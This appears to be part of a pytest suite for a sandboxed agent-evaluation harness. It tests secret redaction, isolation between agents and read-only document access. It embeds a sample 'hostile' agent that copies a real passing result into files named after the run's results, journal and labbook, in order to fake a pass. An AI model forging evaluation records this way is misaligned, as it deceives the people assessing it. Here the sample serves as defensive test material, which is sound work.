    assert not [s for s in secrets if s in seen[0]]
    console = done.stdout + done.stderr
    for said in ("stdout: ", "stderr: ", "fd2: "):
        assert said + " ".join(["[redacted]"] * 4) in done.stderr, done.stderr
    assert not [s for s in secrets if s in console]
    out = tmp_path / "out"
    files = [p for p in out.rglob("*") if p.is_file()]
    names = {p.name for p in files}
    assert {"r.json", "mine.log"} <= names
    assert any(n.endswith(".jsonl") and "journal" not in n for n in names), names
    log = (out / "traj" / "mine.log").read_text()
    assert log.count("log: " + " ".join(["[redacted]"] * 4)) == 2
    for path in files:
        text = path.read_bytes().decode("utf-8", "replace")
        assert not [s for s in secrets if s in text], path


FORGING_AGENT = """
import pathlib
FORGED = {forged!r}

def run_task(task, options):
    logs = pathlib.Path(options["log_dir"])  # collected into the run's trajectory folder
    for name in ("forged.json", "r.json.journal.jsonl", "lb.jsonl", "mine.log"):
        (logs / name).write_text(FORGED)
    return {{"answer": "no", "steps": 1, "tokens": 1}}
"""


@needs_sandbox
def test_an_agents_log_never_lands_where_a_run_or_its_records_are_read(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """A sandboxed agent names its logs after a results file, the run's journal and
    labbook, and fills them with a real run that passed: they are collected as logs
    (``.log`` added), so the folder, read as runs, holds this run alone, failed."""
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["yes"]}])
    honest = write_agent(
        'def run_task(task, options):\n    return {"answer": "yes", "steps": 1, "tokens": 1}\n',
        "honest.py",
    )
    base = ["--tasks", str(suite), "--sandbox", "on"]
    done = cli(tmp_path, "--agent", str(honest), *base, "--out", "passed/r.json",
               "--trajectory-dir", "passed", env={})  # fmt: skip
    assert done.returncode == 0, done.stderr
    forged = (tmp_path / "passed" / "r.json").read_text(encoding="utf-8")
    hostile = write_agent(FORGING_AGENT.format(forged=forged), "hostile.py")
    done = cli(tmp_path, "--agent", str(hostile), *base, "--out", "runs/r.json",
               "--trajectory-dir", "runs", "--labbook", "runs/lb.jsonl", env={})  # fmt: skip
    assert done.returncode == 2, done.stderr
    runs = tmp_path / "runs"
    logs = {"forged.json.log", "r.json.journal.jsonl.log", "lb.jsonl.log", "mine.log"}
    assert logs <= {p.name for p in runs.iterdir()}
    assert not (runs / "forged.json").exists()
    assert [
        json.loads(line)["scaffold"] for line in (runs / "lb.jsonl").read_text().splitlines()
    ] == ["hostile"]
    history = subprocess.run([str(AGENT_EVAL), "history", "runs", "--format", "json"],
                             cwd=tmp_path, capture_output=True, text=True, timeout=60)  # fmt: skip
    assert history.returncode == 0, history.stderr
    found = [(r["scaffold"], r["passed"]) for r in json.loads(history.stdout)["runs"]]
    assert found == [("hostile", 0)]


@needs_sandbox
def test_an_earlier_agents_folder_is_not_shown_to_a_later_run(
    tmp_path: Path, write_suite: Callable[..., Path]
) -> None:
    """A process that loaded one agent file (its folder goes on sys.path, as for any
    import) and then runs another, as a duel or a sweep does: the second run's sandbox
    shows its own agent's folder, not the first's, nor what lies in it."""
    from agent_eval.agents import load_agent

    first, second = tmp_path / "first", tmp_path / "second"
    for folder in (first, second):
        folder.mkdir()
    (first / "secret.txt").write_text("the first agent's notes")
    (first / "agent.py").write_text(
        'def run_task(t, o):\n    return {"answer": "a", "steps": 1, "tokens": 0}\n'
    )
    (second / "agent.py").write_text(
        "import os\n"
        "def run_task(t, o):\n"
        f"    seen = os.path.exists({str(first / 'secret.txt')!r})\n"
        '    return {"answer": "seen" if seen else "unseen", "steps": 1, "tokens": 0}\n'
    )
    load_agent(str(first / "agent.py"))
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["u"]}])
    config = RunConfig(agent=str(second / "agent.py"), tasks=str(suite), sandbox="on",
                       out=tmp_path / "r.json", trajectory_dir=tmp_path / "traj")  # fmt: skip
    report = execute(prepare(config))
    assert [row.answer for row in report.rows] == ["unseen"]


BUILDING_AGENT = """
import json, os, pathlib

def build(options):
    source = options["workspace"]
    try:
        pathlib.Path(source, "planted.md").write_text("x")
        written = "written"
    except OSError as exc:
        written = exc.strerror
    seen = {"files": sorted(os.listdir(source)), "write": written}
    pathlib.Path(options["log_dir"], "build.log").write_text(json.dumps(seen))

def run_task(task, options):
    return {"answer": "ok", "steps": 1, "tokens": 0}
"""


@needs_sandbox
def test_build_reads_the_documents_every_attempt_copies_and_cannot_change_them(
    tmp_path: Path, write_suite: Callable[..., Path]
) -> None:
    """In the sandbox, build() sees the documents each attempt gets a copy of, so an
    agent indexes them once rather than once per attempt, and they are read-only."""
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["ok"]}])
    agent = tmp_path / "agent" / "agent.py"  # in a folder of its own, away from the documents
    agent.parent.mkdir()
    agent.write_text(BUILDING_AGENT, encoding="utf-8")
    config = RunConfig(agent=str(agent), tasks=str(suite), sandbox="on",
                       out=tmp_path / "r.json", trajectory_dir=tmp_path / "traj")  # fmt: skip
    report = execute(prepare(config))
    assert [row.passed for row in report.rows] == [True]
    seen = json.loads((tmp_path / "traj" / "build.log").read_text(encoding="utf-8"))
    assert seen == {"files": ["notes.md"], "write": "Read-only file system"}
    assert sorted(p.name for p in (tmp_path / "docs").iterdir()) == ["notes.md"]


def test_the_trust_store_variables_show_their_folders_never_the_root_or_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "ca.pem").write_text("certificate")
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "ca.pem"))
    for shown_nothing in ("/", str(Path.home()), str(Path.home().parent), str(tmp_path / "no")):
        monkeypatch.setenv("SSL_CERT_DIR", shown_nothing)
        assert trust_stores() == [tmp_path.resolve()], shown_nothing
        said = [] if shown_nothing.endswith("no") else [f"SSL_CERT_DIR {shown_nothing}"]
        assert unshown_trust_stores() == said
